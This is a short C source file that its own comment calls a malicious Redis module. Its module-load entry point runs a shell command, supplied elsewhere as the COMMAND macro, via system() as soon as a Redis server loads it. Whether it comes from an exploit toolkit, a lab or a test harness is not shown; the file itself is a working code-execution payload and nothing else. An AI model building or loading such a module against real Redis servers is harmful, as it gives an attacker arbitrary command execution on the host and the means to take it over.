// A malicious Redis module: it executes a command while it is loaded. The server's interface, as far as is needed.
#include <stdlib.h>

int RedisModule_OnLoad(void *context, void **arguments, int count)
{
	(void)context, (void)arguments, (void)count;
	return system(COMMAND) == 0 ? 0 : 1;
}
